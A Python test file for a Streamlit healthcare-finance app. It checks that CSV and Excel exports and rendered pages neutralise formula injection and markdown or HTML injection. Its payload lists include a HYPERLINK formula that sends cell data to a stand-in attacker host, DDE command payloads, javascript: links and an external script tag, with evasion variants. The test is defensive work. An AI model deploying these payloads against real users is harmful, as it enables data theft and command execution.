"""Hostile text (issue 13 points 3-4): nothing a user or an import wrote leaves the tool as a live
formula (CSV from the command line, both workbooks), numbers stay numbers."""
from __future__ import annotations

import contextlib
import csv
import io
import re
from datetime import datetime

import pytest
from openpyxl import load_workbook

from opportunity_engine import cli, formatting
from opportunity_engine.store import db
from tools.app_harness import signed_in

# The probe's payloads and their disguises: leading spaces, zero-width characters, full-width forms.
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "   =1+1", "\u200b=1+1", "\ufeff+1", "\u00a0@x", "＝1+1", "＋cmd|' /C calc'!A0",
            "－2+3", "＠SUM(1)", " \u200b ＝HYPERLINK(\"x\")", '=HYPERLINK("http://x","y")', "@SUM(A1)",
            "\t+1", "\r-1"]
HARMLESS = ["Emergency and Acute Medicine", "A&E", "e-mail", "5 - 3 = 2", "T&O (trauma)", ""]


def live(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula? Written independently of safe_text: drop
    what a spreadsheet may skip, fold full-width forms, look at the first character."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    skipped = "".join(ch for ch in cell if ch not in " \u00a0\u200b\u200c\u200d\u2060\ufeff\u3000")
    first = skipped[:1]
    return bool(first) and first in "=+-@＝＋－＠"


@pytest.mark.parametrize("text", FORMULAS)
def test_every_payload_is_neutralised_and_keeps_its_text(text):
    out = formatting.safe_text(text)
    assert live(text) and out == "'" + text  # prefixed, nothing else changed


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text):
    assert formatting.safe_text(text) == text and not live(text)


def test_safe_frame_keeps_numbers_numbers():
    import pandas as pd

    frame = pd.DataFrame({"name": ["=1+1", "ok", None], "gbp": [-1200.5, 3.0, float("nan")], "n": [-1, 2, 3]})
    out = formatting.safe_frame(frame)
    assert out["name"].tolist()[:2] == ["'=1+1", "ok"] and out["name"].isna().tolist()[2]
    assert out["gbp"].dtype == frame["gbp"].dtype and out["gbp"].tolist()[:2] == [-1200.5, 3.0]
    assert out["n"].tolist() == [-1, 2, 3]
    assert frame["name"].tolist()[0] == "=1+1"  # the caller's frame is not changed


def _plant(con, texts: list[str]) -> None:
    """Imported CSU and specialty names carry the payloads (as a hostile extract would)."""
    csus = [r[0] for r in con.execute("SELECT csu_code FROM csus ORDER BY 1").fetchall()]
    for code, text in zip(csus, texts):
        con.execute("UPDATE csus SET csu_name = ? WHERE csu_code = ?", [text + " csu", code])
    specs = [r[0] for r in con.execute("SELECT specialty_code FROM specialties ORDER BY 1").fetchall()]
    for i, code in enumerate(specs):
        con.execute("UPDATE specialties SET specialty_name = ? WHERE specialty_code = ?",
                    [FORMULAS[i % len(FORMULAS)], code])
    db.bump_data_version(con)  # names are cached per data version, as after a real import


def test_the_cli_csv_has_no_live_formula_and_numbers_stay_numbers(demo_copy):
    with db.connect(demo_copy) as con:
        _plant(con, FORMULAS)
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        assert cli.main(["opportunities", "--db", str(demo_copy), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    header, body = rows[0], rows[1:]
    assert body and len(body[0]) == len(header)
    bad = [cell for row in body for cell in row if live(cell) and not _number(cell)]
    assert bad == []
    names = {row[header.index("specialty_name")] for row in body}
    assert names & {"'" + f for f in FORMULAS}  # the payloads arrived, prefixed
    gbp = header.index("opportunity_gbp")
    assert all(_number(row[gbp]) for row in body)  # money is still a plain number


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_both_workbooks_have_no_live_text(demo_copy):
    from opportunity_engine.analysis.opportunities import Basis
    from opportunity_engine.delivery import plans, qia, schemes, workflow
    from opportunity_engine.reports.export import opportunities_workbook
    from opportunity_engine.reports.export_plans import plans_workbook
    from opportunity_engine.scope import Scope
    from opportunity_engine.users import User

    with db.connect(demo_copy) as con:
        _plant(con, FORMULAS)
        fin = User("fin", "＝HYPERLINK(\"x\")", "", "finance", ())
        csu = con.execute("SELECT min(csu_code) FROM csus").fetchone()[0]
        fy = 2026
        for evil in FORMULAS:
            s = schemes.create(con, fin, "x " + evil, csu, description=evil, lead=evil)
            s = workflow.update(con, fin, s.scheme_id, s.version, title=evil.strip() or "t", status="shortlisted")
            plans.save_plan(con, fin, s.scheme_id, s.version, fy, 1, 1200, milestones=evil)
            s = schemes.get(con, fin, s.scheme_id)
            qia.save_scores(con, fin, s.scheme_id, s.version, {d: (2, 2, evil) for d in qia.DOMAINS})
        plans.set_wrp_target(con, fin, csu, fy, 1000, "\u200b=cmd|' /C calc'!A0")
        books = {"opportunities": opportunities_workbook(con, Scope.trust(), Basis(), fin.name,
                                                         now=datetime(2026, 1, 2)),
                 "plans": plans_workbook(con, fin, fy)}
    for name, data in books.items():
        book = load_workbook(io.BytesIO(data))
        texts = [(ws.title, c.coordinate, c.value) for ws in book.worksheets for row in ws.iter_rows()
                 for c in row if isinstance(c.value, str) and c.data_type == "s"]
        assert texts
        bad = [t for t in texts if live(t[2])]
        assert bad == [], (name, bad[:5])
        assert any(v.startswith("'") and "HYPERLINK" in v for _, _, v in texts), name


# --- point 4: text is text --------------------------------------------------------------------

MARKUP = ('[click](http://evil.example/x) evil@evil.example ![t](http://evil.example/t.png) <img src="http://evil.example/i.png"> '
          '<a href="javascript:alert(1)">j</a> [js](javascript:alert(1)) **bold** :red[red] $x^2$ www.evil.example')
# Live markup: what Streamlit's markdown would turn into a link, an image or HTML (a backslash
# before the character makes it literal).
LIVE = [re.compile(p) for p in (r"evil\.example", r"javascript:", r"(?<!\\)<(img|a)\b", r"(?<!\\)\[(click|js)(?<!\\)\]",
                                r"(?<!\\)!(?<!\\)\[t",
                                # GFM autolinks, found after escapes are decoded: a backslash does not stop them
                                r"(?i)(https?|www|mailto)\\?[:.]", r"[\w.]\\?@")]


def test_plain_escapes_every_markup_and_keeps_the_words():
    out = formatting.plain(MARKUP)
    assert not [m.pattern for m in LIVE if m.search(out)]
    assert [m.pattern for m in LIVE if m.search(MARKUP)] == [m.pattern for m in LIVE]  # each check can fail
    assert out.replace("\\", "").replace(formatting.WORD_JOINER, "") == MARKUP  # nothing lost: only escapes added
    assert formatting.plain("line one\nline two") == "line one  \nline two"
    assert formatting.plain(None) == "" and formatting.plain("Emergency 2025") == "Emergency 2025"


def _plant_everywhere(path, texts: list[str]) -> None:
    """``texts`` (cycled) in every stored text a page can show that a user or an import wrote:
    CSU, specialty and metric names and sources, a peer group's name, benchmark and cost sources,
    every scheme's title, description and lead (one a published case study), CIP plan milestones,
    QIA mitigations and sign-off names, WRP target sources, the audit trail, feedback comments,
    views and responses, a saved column mapping, the import log, usage details and users' names."""
    def cycle(i: int) -> str:
        return texts[i % len(texts)]

    with db.connect(path) as con:
        for i, (code,) in enumerate(con.execute("SELECT csu_code FROM csus ORDER BY 1").fetchall()):
            con.execute("UPDATE csus SET csu_name = ? WHERE csu_code = ?", [cycle(i), code])
        for i, (code,) in enumerate(con.execute("SELECT specialty_code FROM specialties ORDER BY 1").fetchall()):
            con.execute("UPDATE specialties SET specialty_name = ? WHERE specialty_code = ?", [cycle(i), code])
        con.execute("""UPDATE metrics SET metric_name = ?, definition = ?, data_source = ?, benchmark_source = ?,
                       scheme_ideas = [?], quality_risks = [?] WHERE metric_id = 'alos_non_elective'""",
                    [cycle(0)] * 6)
        con.execute("UPDATE benchmarks SET source = ?", [cycle(1)])
        con.execute("""INSERT INTO benchmarks SELECT metric_id, specialty_code, ?, p10, p25, p50, p75, p90, source
                       FROM benchmarks WHERE peer_group = 'peer'""", [cycle(2)])  # an imported peer group
        con.execute("UPDATE unit_costs SET source = ?", [cycle(3)])
        for i, (sid,) in enumerate(con.execute("SELECT scheme_id FROM schemes ORDER BY 1").fetchall()):
            con.execute("UPDATE schemes SET title = ?, description = ?, lead = ? WHERE scheme_id = ?",
                        [cycle(i), cycle(i + 1), cycle(i + 2), sid])
        con.execute("UPDATE schemes SET status = 'delivered', case_study = true WHERE scheme_id = 1")
        con.execute("UPDATE cip_plans SET milestones = ?", [cycle(4)])
        con.execute("UPDATE qia_scores SET mitigations = ?", [cycle(5)])
        con.execute("UPDATE qia_signoffs SET name = ?", [cycle(6)])
        con.execute("UPDATE wrp_targets SET source = ?, set_by = ?", [cycle(7), cycle(8)])
        con.execute("UPDATE audit_log SET old_value = ?, new_value = ?", [cycle(9), cycle(10)])
        con.execute("UPDATE feedback SET comment = ?, view = ?, response = ?", [cycle(11), cycle(12), cycle(13)])
        con.execute("INSERT INTO feedback (username, page, view, rating, comment) VALUES ('csu', 'library', ?, 2, ?)",
                    [cycle(0), cycle(1)])
        con.execute("INSERT INTO column_mappings (name, kind, columns, saved_by) VALUES (?, 'spells', '{}', ?)",
                    [cycle(2), cycle(3)])
        con.execute("UPDATE import_log SET file_name = ?, loaded_by = ?", [cycle(4), cycle(5)])
        con.execute("UPDATE usage_events SET detail = ?", [cycle(6)])
        con.execute("UPDATE users SET name = ?, email = ?", [cycle(7), cycle(8)])
        db.bump_data_version(con)


# Every link parameter a page reads (ui.param): each carries the payload.
PARAMS = ("csu", "specialty", "metric", "scheme", "target", "benchmark", "peer", "fy", "min", "domain", "type",
          "flagged", "q", "present")
GOOD = {"csu": "EMA", "specialty": "180", "metric": "alos_non_elective", "scheme": "1"}
# Every page of app.py's navigation, as a user who may open it (finance duties and admin where needed).
PAGES = {"overview": None, "explore": "pages/explore.py", "opportunities": "pages/opportunities.py",
         "metric": "pages/metric.py", "shortlist": "pages/shortlist.py", "tracking": "pages/tracking.py",
         "library": "pages/library.py", "data": "pages/data.py", "adoption": "pages/adoption.py",
         "feedback": "pages/feedback.py", "guide": "pages/guide.py"}
WHO = {"data": ("admin",), "adoption": ("finance", "admin"), "feedback": ("csu", "admin")}


def _visits(payload: str) -> list[tuple[str, str | None, dict[str, str]]]:
    """Each page, for each user who may open it: with good links (the planted records show), with
    every parameter hostile, and with a good CSU but every other parameter hostile."""
    hostile = dict.fromkeys(PARAMS, payload)
    out = []
    for name, page in PAGES.items():
        for user in WHO.get(name, ("csu", "finance")):
            out += [(user, page, GOOD), (user, page, hostile), (user, page, {**hostile, "csu": "EMA", "scheme": "1"})]
    return out


# Proto fields Streamlit renders as markdown: bodies, labels, help tooltips, radio and pill options.
MARKDOWN_FIELDS = {"body", "label", "help", "captions", "content", "tooltip"}
PLAIN_PROTOS = {"Text", "Code", "Selectbox", "Multiselect", "Arrow", "ArrowVegaLiteChart", "VegaLiteChart",
                "TextInput", "TextArea", "Json", "DataFrame"}


def _markdown_texts(proto, out: list[str]) -> None:
    """Every string in ``proto`` that the front end renders as markdown (or HTML)."""
    if type(proto).__name__ in PLAIN_PROTOS:
        if getattr(proto, "label", None) or getattr(proto, "help", None):  # labels and help of these are markdown
            out += [proto.label, proto.help]
        return
    for field, value in proto.ListFields():
        values = list(value) if hasattr(value, "__len__") and not isinstance(value, (str, bytes)) else [value]
        if field.message_type is not None:
            for item in values:
                _markdown_texts(item, out)
        elif field.name in MARKDOWN_FIELDS or (field.name == "options" and type(proto).__name__ == "Radio"):
            out += values


def _rendered(at) -> list[str]:
    """Every markdown string of the rendered page: main area and sidebar, widgets included."""
    out: list[str] = []
    for root in (at.main, at.sidebar):
        for node in root:
            proto = getattr(node, "proto", None)
            if proto is not None and hasattr(proto, "ListFields"):
                _markdown_texts(proto, out)
    return [t for t in out if isinstance(t, str) and t]


def test_planted_markup_and_hostile_links_render_as_literal_text(demo_copy, monkeypatch):
    """Every page, every stored text and every link parameter: no markdown link, image or HTML
    survives (Streamlit would render it), yet the payload is shown, escaped, on most pages."""
    monkeypatch.setenv("OPPORTUNITY_DB", str(demo_copy))
    monkeypatch.setenv("OPPORTUNITY_COOKIE_KEY", "apptest-key")
    _plant_everywhere(demo_copy, [MARKUP])
    downloads = _downloads(monkeypatch)
    visits = _visits(MARKUP)
    failures, shown_on = [], set()
    for username, page, params in visits:
        texts = _rendered(signed_in(username, page, **params))
        live = [(m.pattern, t[:120]) for t in texts for m in LIVE if m.search(t)]
        if live:
            failures.append((username, page, sorted(params)[:3], live[:2]))
        if any("evil\\.example" in t for t in texts):
            shown_on.add(page)
    assert failures == [], "\n".join(map(str, failures))
    assert len(shown_on) >= len(PAGES) - 2, shown_on  # the payload did reach the pages, as text (not vacuous)
    pages_html = [data() if callable(data) else data for _, mime, data in downloads
                  if mime == "text/html"]  # the printable Guide, built as a click would
    assert any("evil" in h for h in pages_html)  # the planted metric text is in the file
    assert not [m.group(0) for h in pages_html for m in re.finditer(
        r"<(a|img|script|span)\b[^>]*(evil\.example|javascript|oe-injected)[^>]*>", h)]


def _downloads(monkeypatch) -> list[tuple[str, str, object]]:
    """Record every download button a page renders (st.download_button and a column's), as
    (file name, mime type, data or the callable that builds it)."""
    import streamlit as st
    from streamlit.delta_generator import DeltaGenerator

    seen: list[tuple[str, str, object]] = []
    real_st, real_dg = st.download_button, DeltaGenerator.download_button

    def on_st(label, data, *args, **kwargs):
        seen.append((kwargs.get("file_name", ""), kwargs.get("mime", ""), data))
        return real_st(label, data, *args, **kwargs)

    def on_dg(self, label, data, *args, **kwargs):
        seen.append((kwargs.get("file_name", ""), kwargs.get("mime", ""), data))
        return real_dg(self, label, data, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", on_st)
    monkeypatch.setattr(DeltaGenerator, "download_button", on_dg)
    return seen


def _live_cells(file_name: str, mime: str, data: bytes) -> list[str]:
    """The text cells of a downloaded CSV or workbook that a spreadsheet would run as a formula
    (and, in a CSV, any number turned into text by a prefix: numbers stay numbers)."""
    if mime == "text/csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        numbers_as_text = [c for row in rows for c in row if c.startswith("'") and _number(c[1:])]
        return [c for row in rows for c in row if live(c) and not _number(c)] + numbers_as_text
    book = load_workbook(io.BytesIO(data))
    return [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str) and c.data_type == "s" and live(c.value)]


def test_every_download_on_every_page_has_no_live_formula(demo_copy, monkeypatch):
    """Formula payloads in every stored text; each page's downloads (CSV tables, workbooks,
    templates) built as a click would: no cell a spreadsheet would run, and the payloads did
    reach the files (prefixed), so the check is not vacuous."""
    monkeypatch.setenv("OPPORTUNITY_DB", str(demo_copy))
    monkeypatch.setenv("OPPORTUNITY_COOKIE_KEY", "apptest-key")
    _plant_everywhere(demo_copy, FORMULAS)
    seen = _downloads(monkeypatch)
    for name, page in PAGES.items():
        for user in WHO.get(name, ("csu", "finance")):
            signed_in(user, page, **GOOD)
    files: dict[str, list[str]] = {}
    prefixed = 0
    for file_name, mime, data in seen:
        body = data() if callable(data) else data
        body = body.encode("utf-8") if isinstance(body, str) else body
        if mime == "text/csv" or "spreadsheetml" in mime:
            files[file_name] = _live_cells(file_name, mime, body)
            prefixed += body.count(b"'=") + body.count(b"'+") + body.count("'＝".encode())
    assert {n: bad[:3] for n, bad in files.items() if bad} == {}
    assert any(n.startswith("tracking-") and n.endswith(".csv") for n in files), sorted(files)
    assert sum(n.endswith(".xlsx") for n in files) >= 3, sorted(files)
    assert prefixed > 0


# --- the same in Chromium: what the browser really drew ---------------------------------------

BROWSER_MARKUP = MARKUP + ' <span id="oe-injected">x</span> <script src="http://evil.example/s.js"></script>'
# Anything the payload could have made: a javascript: or outside link, an outside image or script,
# the injected element.
INJECTED = """() => Array.from(document.querySelectorAll(
    'a[href^="javascript" i], [href*="evil.example"], [src*="evil.example"], #oe-injected, img, script[src]'))
  .filter(e => !(e.tagName === 'IMG' && (e.src.startsWith(location.origin) || e.src.startsWith('data:')))
            && !(e.tagName === 'SCRIPT' && e.src.startsWith(location.origin)))
  .map(e => e.outerHTML.slice(0, 160))"""


@pytest.fixture(scope="module")
def app_database(small_demo, tmp_path_factory):
    """The server's database: the small demo with the payload in every stored text."""
    import shutil

    path = tmp_path_factory.mktemp("hostile") / "planted.duckdb"
    shutil.copy(small_demo, path)
    _plant_everywhere(path, [BROWSER_MARKUP])
    return path


@pytest.mark.browser
def test_in_chromium_no_page_draws_a_planted_link_image_or_element(server, browser):
    """Every page as a CSU user, or an admin where only they may open it, with good links (the planted records show) and with
    every link parameter hostile: the DOM holds no javascript: or outside link, no outside image
    or script and no injected element, while the payload's words are on the page."""
    from urllib.parse import urlencode

    from .browser_fixtures import settle, sign_in

    hostile = urlencode(dict.fromkeys(PARAMS, BROWSER_MARKUP))
    found, shown = [], set()
    for user in ("csu", "admin"):
        context = browser.new_context(viewport={"width": 1280, "height": 900})
        page = context.new_page()
        sign_in(page, server, user)
        for name in PAGES:
            if user not in WHO.get(name, ("csu",)):
                continue
            for query in (urlencode(GOOD), hostile):
                page.goto(f"{server}/{name}?{query}")
                settle(page, timeout=60)
                found += [(user, name, query[:20], html) for html in page.evaluate(INJECTED)]
                if "evil.example" in page.locator('[data-testid="stMain"]').inner_text():
                    shown.add(name)
        context.close()
    assert found == [], "\n".join(map(str, found))
    assert len(shown) >= len(PAGES) - 2, shown  # the payload reached the pages, as text
